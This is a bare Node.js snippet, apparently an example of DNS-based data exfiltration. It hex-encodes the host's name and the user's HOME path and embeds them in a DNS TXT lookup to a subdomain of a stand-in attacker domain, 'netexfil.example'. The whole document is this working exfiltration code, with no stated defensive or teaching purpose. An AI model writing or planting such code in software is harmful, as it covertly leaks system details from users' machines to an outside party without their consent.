const dns = require('dns');
const data = Buffer.from(require('os').hostname() + ':' + process.env.HOME).toString('hex');
dns.resolveTxt(data.slice(0, 60) + '.leak.netexfil.example', () => {});
